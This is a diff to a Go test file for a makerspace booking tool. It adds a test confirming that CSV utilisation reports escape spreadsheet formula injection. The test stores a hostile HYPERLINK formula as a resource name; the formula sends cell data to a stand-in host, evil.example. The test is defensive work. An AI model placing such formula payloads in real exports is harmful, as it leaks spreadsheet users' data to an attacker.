@@ -148,6 +148,25 @@ func TestMakerspaceBookingsReportsICal(t *testing.T) {
 	if !strings.Contains(out, "2027-03-01,printer-1,Prusa MK4,43.00,2.00,0.00,0.00,0.0") {
 		t.Fatalf("utilisation report:\n%s", out)
 	}
+	// A hostile name is text in a spreadsheet, not a formula.
+	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"Klik")`
+	mustCtl(t, db, "resource", "set", "printer-1", "-name", evil)
+	out = mustCtl(t, db, "report", "utilisation", "-from", string(day), "-to", string(day.AddDays(6)))
+	rows, err = csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range rows {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
+				t.Fatalf("formula in the report: %q\n%s", cell, out)
+			}
+		}
+		if r[1] == "printer-1" && r[2] != "'"+evil {
+			t.Fatalf("name written as %q", r[2])
+		}
+	}
+	mustCtl(t, db, "resource", "set", "printer-1", "-name", "Prusa MK4")
 	ics := filepath.Join(t.TempDir(), "makerspace.ics")
 	mustCtl(t, db, "ical", "-from", string(day), "-to", string(day), "-o", ics, "-site", "uji")
 	data, err := os.ReadFile(ics)
